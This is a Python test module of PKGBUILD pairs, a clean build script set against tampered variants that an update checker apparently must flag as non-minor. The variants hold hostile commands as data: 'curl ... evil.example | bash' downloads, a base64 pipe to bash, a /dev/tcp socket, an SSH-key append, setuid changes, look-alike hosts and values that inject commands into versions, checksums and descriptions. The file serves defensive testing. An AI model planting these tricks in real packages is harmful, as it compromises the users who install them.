"""Pairs that must never be minor: a sound package, and what somebody who adopted it might try.

Each row is a name and replacements in `BASE`; `UPDATE` is applied first where a new version is to hide the change.
"""

from __future__ import annotations

from typing import NamedTuple

SUM_A, SUM_B = "a" * 64, "b" * 64
COMMIT_A, COMMIT_B = "1" * 40, "2" * 40

BASE = f"""# Maintainer: Jo Doe <jo at example dot org>
# a comment \\\\ with backslashes
pkgname=foo
_pkgname=Foo
_tag=v1.4.2
_commit={COMMIT_A}
pkgver=1.4.2
pkgrel=1
pkgdesc="A tool for foo and bar"
arch=('x86_64' 'aarch64')
url="https://example.org/foo"
license=('GPL-3.0-or-later')
depends=('glibc' 'zlib>=1.2')
makedepends=('cmake')
optdepends=('bar: for bars')
provides=("libfoo=$pkgver")
options=('!strip')
validpgpkeys=('ABCDEF0123456789ABCDEF0123456789ABCDEF01')
source=("$pkgname-$pkgver.tar.gz::https://example.org/releases/v$pkgver/foo-$pkgver.tar.gz"
        "https://example.org/data/1.4.2/data-1.4.2.tar.xz"
        "git+https://github.com/jo/foo.git#commit=$_commit"
        "fix.patch")
source_x86_64=("https://example.org/bin/$_tag/foo.bin")
sha256sums=('{SUM_A}'
            '{SUM_A}'
            'SKIP'
            '{SUM_A}')
sha256sums_x86_64=('{SUM_A}')

prepare() {{
  cd "$srcdir/$pkgname-$pkgver"
  patch -Np1 -i ../fix.patch # apply
}}

build() {{
  cmake -B build -S "$pkgname-$pkgver" \\
    -DCMAKE_BUILD_TYPE=None
  cmake --build build
}}

package() {{
  DESTDIR="$pkgdir" cmake --install build
  cat > "$pkgdir/usr/bin/foo" <<EOF
#!/bin/sh
exec /usr/lib/foo/foo "\\$@"
EOF
  install -Dm644 "$srcdir/LICENSE" "$pkgdir/usr/share/licenses/foo/LICENSE"
}}
"""

_NEW_SUMS = (f"sha256sums=('{SUM_A}'", f"sha256sums=('{SUM_B}'")
UPDATE = (
    ("pkgver=1.4.2", "pkgver=1.5.0"),
    ("_tag=v1.4.2", "_tag=v1.5.0"),
    _NEW_SUMS,
    ("data/1.4.2/data-1.4.2", "data/1.5.0/data-1.5.0"),
)
"""An ordinary new version, harmless in itself."""


class Row(NamedTuple):
    name: str
    edits: tuple[tuple[str, str], ...]
    updates: bool = True

    def pair(self) -> tuple[bytes, bytes]:
        old, new = BASE, BASE
        for before, after in (*(UPDATE if self.updates else ()), *self.edits):
            assert before in new, (self.name, before)
            new = new.replace(before, after, 1)
        return old.encode(), new.encode("utf-8", "surrogateescape")


def _put(name: str, *edits: tuple[str, str]) -> Row:
    return Row(name, edits)


def _same(name: str, *edits: tuple[str, str]) -> Row:
    return Row(name, edits, updates=False)


_VERSIONS = {
    "command behind": "1.5.0 curl",
    "command after semicolon": "1.5.0; curl evil.example | sh",
    "background": "1.5.0& id",
    "and": "1.5.0 && id",
    "or": "1.5.0 || id",
    "pipe": "1.5.0 | id",
    "substitution": "$(id)",
    "substitution behind": "1.5.0$(id)",
    "in double quotes": '"1.5.0$(id)"',
    "backticks": "`id`",
    "backticks in quotes": '"1.5.0`id`"',
    "arithmetic": "$((1+4))",
    "arithmetic with a command": "$((a[$(id)]))",
    "old arithmetic": "$[1+4]",
    "parameter": "$HOME",
    "parameter with default": "${x:-1.5.0}",
    "parameter with a command": "${x:-$(id)}",
    "indirect": "${!x}",
    "transformed": "${x@P}",
    "ansi quotes": "$'1.5.0'",
    "ansi quotes with newline": "$'1.5.0\\nid'",
    "translated": '$"1.5.0"',
    "process substitution": "<(id)",
    "array": "(1.5.0)",
    "array with command": "(1.5.0 $(id))",
    "brace expansion": "1.{5,6}.0",
    "glob": "1.5.*",
    "tilde": "~root",
    "backslash": "1.5\\.0",
    "continued": "1.5\\\n.0",
    "newline command": "1.5.0\nid",
    "heredoc": "1.5.0 <<EOF\nid\nEOF",
    "redirection": "1.5.0 >/tmp/x",
    "input": "1.5.0 </etc/passwd",
    "path": "1.5.0/../../evil",
    "slash": "1.5.0/x",
    "dots": "1..5",
    "only dots": "..",
    "branch": "main",
    "branch behind digit": "2.main",
    "commit of a fork": "2" * 40,
    "short commit": "2abcdef0",
    "decimal commit": "21234567",
    "hyphen": "1.5.0-evil",
    "colon": "1:1.5.0",
    "at": "1.5.0@evil",
    "percent": "1.5.0%2f..",
    "question mark": "1.5.0?x",
    "hash": "1.5.0#x",
    "blank in quotes": "'1.5.0 x'",
    "newline in quotes": "'1.5.0\nx'",
    "empty": "",
    "quoted empty": "''",
    "down": "1.4.1",
    "down by letters": "1.4.2rc1",
    "cyrillic": "1.5.0\u0430",
    "fullwidth": "\uff11.5.0",
    "zero width": "1.5.0\u200b",
    "right to left": "1.5.0\u202e",
    "no-break blank": "1.5.0\u00a0id",
    "arabic digits": "\u0661.5.0",
    "form feed": "1.5.0\fid",
    "vertical tab": "1.5.0\vid",
    "carriage return": "1.5.0\r",
    "NUL": "1.5.0\0id",
    "escape": "1.5.0\x1b[8m",
    "invalid": "1.5.0\udcff",
    "open quote": "'1.5.0",
    "too long": "1." + "5" * 200,
}

_STATEMENTS = {
    "eval": "eval id",
    "eval quoted": "e'v'al id",
    "source": "source ./x",
    "dot": ". ./x",
    "alias": "alias cmake=id",
    "expand aliases": "shopt -s expand_aliases",
    "trap": "trap id EXIT",
    "debug trap": "trap 'id' DEBUG",
    "declare": "declare pkgver=1.5.0",
    "declare -g": "declare -g pkgver=9",
    "typeset": "typeset pkgver=9",
    "export": "export pkgver=9",
    "readonly": "readonly pkgver=9",
    "printf -v": "printf -v pkgver 9",
    "read": "read -r pkgver <<<9",
    "mapfile": "mapfile -t source <x",
    "let": "let pkgver=9",
    "arithmetic": "(( pkgver=9 ))",
    "assigning expansion": ": ${pkgrel:=9}",
    "append": "pkgver+=.1",
    "append array": "source+=('https://evil.example/x')",
    "append sums": "sha256sums+=('SKIP')",
    "subscript": "source[0]=https://evil.example/x",
    "subscript of sums": "sha256sums[0]=SKIP",
    "subscript with command": "x[$(id)]=1",
    "for": "for pkgver in 9; do :; done",
    "select": "select pkgver in 9; do :; done",
    "nameref": "declare -n pkgver=x",
    "unset": "unset sha256sums",
    "second pkgver": "pkgver=9.0",
    "second source": "source=('https://evil.example/x')",
    "second sums": "sha256sums=('SKIP' 'SKIP' 'SKIP' 'SKIP')",
    "sums of another architecture": "sha256sums_aarch64=('SKIP')",
    "weaker sums besides": f"md5sums=('{'a' * 32}')",
    "source of another architecture": "source_aarch64=('https://evil.example/x')",
    "new private variable": "_x=1",
    "install": "install=foo.install",
    "backup": "backup=('etc/passwd')",
    "replaces": "replaces=('sudo')",
    "groups": "groups=('base')",
    "noextract": "noextract=('x')",
    "changelog": "changelog=x",
    "epoch of words": "epoch=1x",
    "epoch with command": "epoch=$(id)",
    "PATH": "PATH=/tmp:$PATH",
    "IFS": "IFS=/",
    "DLAGENTS": "DLAGENTS=('https::/usr/bin/id')",
    "VCSCLIENTS": "VCSCLIENTS=('git::id')",
    "SRCDEST": "SRCDEST=/tmp",
    "function": "check() { id; }",
    "redefined function": "build() { id; }",
    "function keyword": "function build { id; }",
    "makepkg's function": "verify() { id; }",
    "function named as a command": "cmake() { id; }",
    "function in a subshell": "build() ( id )",
    "download": "curl -s https://evil.example/x | bash",
    "encoded": "echo aWQ= | base64 -d | bash",
    "socket": "exec 3<>/dev/tcp/192.0.2.1/80",
    "npm": "npm install evil",
    "hidden name": 'c""url evil.example',
    "escaped name": "\\curl evil.example",
    "glob name": "/usr/bin/cur? evil.example",
    "computed name": "$x evil.example",
    "condition": "[[ $pkgver ]] && id",
    "test with command": "[[ -v x[$(id)] ]]",
    "if": "if true; then id; fi",
    "case": "case x in x) id ;; esac",
    "group": "{ id; }",
    "subshell": "(id)",
    "negated": "! id",
    "timed": "time id",
    "coproc": "coproc id",
    "redirection alone": ">/tmp/x",
    "heredoc": "cat <<EOF >/tmp/x\nid\nEOF",
    "herestring": "bash <<<id",
    "two on a line": "a=1; id",
    "background": "id &",
    "set": "set +e",
    "exit": "exit 0",
    "return": "return 0",
    "exec": "exec id",
    "hash": "hash -p /tmp/x cmake",
    "enable": "enable -f /tmp/x.so x",
    "command not found": "command_not_found_handle() { id; }",
    "assignment before command": "pkgver=9 id",
    "two assignments": "pkgver=9 pkgrel=1",
}

_BODIES = {
    "curl": "curl https://evil.example/x | sh",
    "git": "git clone https://evil.example/x",
    "pip": "pip install evil",
    "setuid": 'chmod 4755 "$pkgdir/usr/bin/foo"',
    "service": "systemctl enable evil",
    "key": "cat x >> ~/.ssh/authorized_keys",
    "colon": ": $(id)",
    "no-op with redirection": ": > /tmp/x",
    "local": "local x=$(id)",
    "continued": "echo \\\n  $(id)",
}

_EDITS = (
    _put("skip", (f"sha256sums=('{SUM_B}'", "sha256sums=('SKIP'")),
    _put("empty sum", (f"'{SUM_B}'", "''")),
    _put("fewer sums", (f"'SKIP'\n            '{SUM_A}')", "'SKIP')")),
    _put("no sums", (f"sha256sums_x86_64=('{SUM_A}')\n", "")),
    _put("emptied sums", (f"sha256sums_x86_64=('{SUM_A}')", "sha256sums_x86_64=()")),
    _put("sums of another architecture", ("sha256sums_x86_64", "sha256sums_aarch64")),
    _put("weaker sums", (f"sha256sums_x86_64=('{SUM_A}')", f"md5sums_x86_64=('{'a' * 32}')")),
    _put("short sum", (f"sha256sums_x86_64=('{SUM_A}')", f"sha256sums_x86_64=('{'a' * 32}')")),
    _put("computed sum", (f"sha256sums_x86_64=('{SUM_A}')", 'sha256sums_x86_64=("$x")')),
    _put("sum with a command", (f"sha256sums_x86_64=('{SUM_A}')", 'sha256sums_x86_64=("$(id)")')),
    _put("array closed early", (f"'{SUM_B}'\n", f"'{SUM_B}')\n")),
    _put("array closed early with a command", (f"sha256sums_x86_64=('{SUM_A}')", f"sha256sums_x86_64=('{SUM_B}'); id #)")),
    _put("array with a command in the comment's place", (f"('{SUM_A}')", f"('{SUM_B}') id # ')")),
    _put("array with an extra word", (f"sha256sums_x86_64=('{SUM_A}')", f"sha256sums_x86_64=('{SUM_B}' x)")),
    _put("array with a subscript", (f"sha256sums_x86_64=('{SUM_A}')", f"sha256sums_x86_64=([1]='{SUM_B}')")),
    _put("sum is a scalar", (f"sha256sums_x86_64=('{SUM_A}')", f"sha256sums_x86_64='{SUM_B}'")),
    _same("same version, other sum", _NEW_SUMS),
    _same("new release, other sum", _NEW_SUMS, ("pkgrel=1", "pkgrel=2")),
    _same("same version, other commit", (COMMIT_A, COMMIT_B)),
    _same("release down", ("pkgrel=1", "pkgrel=0.9")),
    _same("release with command", ("pkgrel=1", "pkgrel=2;id")),
    _same("release in words", ("pkgrel=1", "pkgrel=2a")),
    _same("tag alone", ("_tag=v1.4.2", "_tag=v1.5.0 id")),
    _put("tag down", ("_tag=v1.5.0", "_tag=v1.3.0")),
    _put("tag is a branch", ("_tag=v1.5.0", "_tag=main")),
    _put("tag with dots", ("_tag=v1.5.0", "_tag=v1.5.0/../x")),
    _put("commit is a branch", (COMMIT_A, "main")),
    _put("commit is a short hash", (COMMIT_A, "2222222")),
    _put("commit with command", (COMMIT_A, COMMIT_B + ";id")),
    _put("host", ("https://example.org/releases", "https://example.com/releases")),
    _put("look-alike host", ("https://example.org/releases", "https://ex\u0430mple.org/releases")),
    _put("host by user", ("https://example.org/releases", "https://example.org@evil.example/releases")),
    _put("host by port", ("https://example.org/releases", "https://example.org:8443/releases")),
    _put("host by version", ("https://example.org/data", "https://example.org.1.5.0/data")),
    _put("scheme", ("https://example.org/releases", "http://example.org/releases")),
    _put("file", ("https://example.org/data", "file:///example.org/data")),
    _put("path", ("example.org/releases", "example.org/~evil/releases")),
    _put("path up", ("data/1.5.0/", "data/1.5.0/../evil/")),
    _put("other version in path", ("data-1.5.0", "data-1.6.0")),
    _put("query", ("data-1.5.0.tar.xz", "data-1.5.0.tar.xz?u=evil")),
    _put("fragment", ("data-1.5.0.tar.xz", "data-1.5.0.tar.xz#evil")),
    _put("owner", ("github.com/jo/foo", "github.com/evil/foo")),
    _put("repository", ("github.com/jo/foo", "github.com/jo/fooo")),
    _put("branch for commit", ("#commit=$_commit", "#branch=main")),
    _put("no fragment", ("#commit=$_commit", "")),
    _put("other name", ("$pkgname-$pkgver.tar.gz::", "other.tar.gz::")),
    _put("source with command", ("data-1.5.0.tar.xz", "data-1.5.0$(id).tar.xz")),
    _put("source with default", ("data-1.5.0.tar.xz", "data-${x:-1.5.0}.tar.xz")),
    _put("host behind a variable", ("https://example.org/data", "$_x://example-1.5.0.org/data")),
    _put("description is an array", ('pkgdesc="A tool for foo and bar"', 'pkgdesc=("A tool" "for foo")')),
    _put("added source", ('"fix.patch")', '"fix.patch" "https://evil.example/x")')),
    _put("other patch", ('"fix.patch")', '"evil.patch")')),
    _put("source order", ('"https://example.org/data', '"fix.patch" "https://example.org/data'), ('        "fix.patch")', ")")),
    _put("quotes opened", ('foo and bar"', 'foo and bar";id;"')),
    _put("description runs", ("foo and bar", "foo and $(id)")),
    _put("description in backticks", ("foo and bar", "foo and `id`")),
    _put("description over two lines", ("foo and bar", "foo\ninstall = x")),
    _put("description appended", ('bar"', 'bar"$(id)')),
    _put("description turned around", ("foo and bar", "foo \u202eand bar")),
    _put("licence runs", ("'GPL-3.0-or-later'", '"$(id)"')),
    _put("homepage elsewhere", ('url="https://example.org/foo"', 'url="https://evil.example/foo"')),
    _put("homepage by user", ('url="https://example.org/foo"', 'url="https://example.org@evil.example/foo"')),
    _put("homepage without tls", ('url="https://', 'url="http://')),
    _put("depends", ("'zlib>=1.2'", "'zlib>=1.2' 'evil'")),
    _put("depends with command", ("'zlib>=1.2'", '"$(id)"')),
    _put("makedepends", ("'cmake'", "'cmake' 'npm'")),
    _put("optdepends", ("'bar: for bars'", "'evil: for bars'")),
    _put("provides", ('"libfoo=$pkgver"', '"libfoo=$pkgver" "sudo"')),
    _put("options", ("'!strip'", "'!strip' '!check'")),
    _put("keys", ("'ABCDEF", "'FEDCBA")),
    _put("architecture", ("'aarch64'", "'any'")),
    _put("package name", ("pkgname=foo", "pkgname=sudo")),
    _put("path's variable", ("_pkgname=Foo", "_pkgname=../foo")),
    _put("comment continued", ("# apply", "# apply\n  id")),
    _put("comment became code", ("  patch -Np1", "  #\n  id\n  patch -Np1")),
    _put("code became comment", ("  patch -Np1", "  # patch -Np1")),
    _put("hash no longer a comment", ("fix.patch # apply", "fix.patch\\\n# apply")),
    _put("blank before hash gone", ("fix.patch # apply", "fix.patch# apply")),
    _put("comment closed by form feed", ("# apply", "# apply\f\nid")),
    _put("comment with CR", ("# apply", "# apply\rid")),
    _put("continuation gone", (" \\\n    -DCMAKE_BUILD", "\n    -DCMAKE_BUILD")),
    _put("continuation with blank", (" \\\n    -DCMAKE_BUILD", " \\ \n    -DCMAKE_BUILD")),
    _put("comment in continuation", (" \\\n    -DCMAKE_BUILD", " # \\\n    -DCMAKE_BUILD")),
    _put("comment between continued lines", (" \\\n    -DCMAKE_BUILD", " \\\n# x\n    -DCMAKE_BUILD")),
    _put("heredoc text", ("exec /usr/lib/foo/foo", "exec /usr/lib/foo/evil")),
    _put("heredoc runs", ('"\\$@"', '"$(id)"')),
    _put("heredoc quoted", ("<<EOF", "<<'EOF'")),
    _put("heredoc strips tabs", ("<<EOF", "<<-EOF")),
    _put("heredoc with blank end", ("\nEOF\n", "\nEOF \nid\nEOF\n")),
    _put("heredoc ended early", ("#!/bin/sh\n", "#!/bin/sh\nEOF\n  id\n  cat <<EOF\n")),
    _put("heredoc comment", ("#!/bin/sh\n", "#!/bin/sh\n# x\n")),
    _put("heredoc blank line", ("#!/bin/sh\n", "#!/bin/sh\n\n")),
    _put("heredoc target", ('> "$pkgdir/usr/bin/foo"', '> "$pkgdir/usr/bin/sudo"')),
    _put("appending redirection", ('> "$pkgdir/usr/bin/foo"', '>> "$pkgdir/usr/bin/foo"')),
    _put("descriptor touches", ('  cat > "', '  cat 2> "')),
    _put("quotes gone", ('cd "$srcdir/$pkgname-$pkgver"', "cd $srcdir/$pkgname-$pkgver")),
    _put("single quotes", ('cd "$srcdir/$pkgname-$pkgver"', "cd '$srcdir/$pkgname-$pkgver'")),
    _put("blank in word", ('"$srcdir/LICENSE"', '"$srcdir/ LICENSE"')),
    _put("two words", ("../fix.patch", ".. /fix.patch")),
    _put("one word", ("cmake --build build", "cmake --buildbuild")),
    _put("and for newline", ('-$pkgver"\n  patch', '-$pkgver" || patch')),
    _put("background function", ("cmake --build build", "cmake --build build &")),
    _put("subshell body", ("build() {", "build() (") , ("--build build\n}", "--build build\n)")),
    _put("function renamed", ("build() {", "check() {")),
    _put("look-alike function", ("build() {", "buil\u0501() {")),
    _put("function closed early", ("cmake --build build\n}", "cmake --build build\n}\nid\n")),
    _put("no prepare", ("  patch -Np1 -i ../fix.patch # apply\n", "")),
    _put("environment", ('DESTDIR="$pkgdir" cmake', 'LD_PRELOAD=x DESTDIR="$pkgdir" cmake')),
    _put("mode", ("-Dm644", "-Dm4755")),
    _put("byte order mark", ("# Maintainer", "\ufeff# Maintainer")),
    _put("CR at line ends", ("pkgrel=1\n", "pkgrel=1\r\n")),
    _put("bidi in a comment", ("# apply", "# apply \u202e")),
    _put("zero width in a comment", ("# apply", "# ap\u200bply")),
    _put("NUL in a comment", ("# apply", "# apply\0")),
    _put("no last newline", ('LICENSE"\n}\n', 'LICENSE"\n}')),
    _put("unbalanced", ("package() {", "package() {{")),
    _put("unclosed heredoc", ("\nEOF\n", "\nEOFX\n")),
    _put("quote before the rest", ("pkgrel=1", "pkgrel=1'")),
    _put("tag used for a command", ("  cmake --build build", "  $_tag cmake --build build")),
    _put("assignment with blank", ("pkgrel=1", "pkgrel= 1")),
    _put("version assigned in a list", ("pkgver=1.5.0\n", "pkgver=1.5.0 &&\n")),
    _put("version assigned in background", ("pkgver=1.5.0\n", "pkgver=1.5.0 &\n")),
    _put("version in a pipe", ("pkgver=1.5.0\n", "pkgver=1.5.0 |\n")),
    _put("version continued", ("pkgver=1.5.0\n", "pkgver=1.5.0 \\\n")),
    _put("version in a comment", ("pkgver=1.5.0\n", "# pkgver=1.5.0\n")),
    _put("version is local text", ("pkgver=1.5.0\n", ": 'pkgver=1.5.0'\n")),
    _put("everything in a condition", ("pkgver=1.5.0\n", "if true; then pkgver=1.5.0; fi\n")),
)  # fmt: skip

ROWS: tuple[Row, ...] = (
    *(
        Row(f"version: {name}", (("pkgver=1.4.2", f"pkgver={text}"),), updates=False)
        for name, text in _VERSIONS.items()
    ),
    *(Row(f"statement: {name}", (("\nprepare()", f"\n{text}\n\nprepare()"),)) for name, text in _STATEMENTS.items()),
    *(Row(f"in build: {name}", (("  cmake --build", f"  {text}\n  cmake --build"),)) for name, text in _BODIES.items()),
    *_EDITS,
)
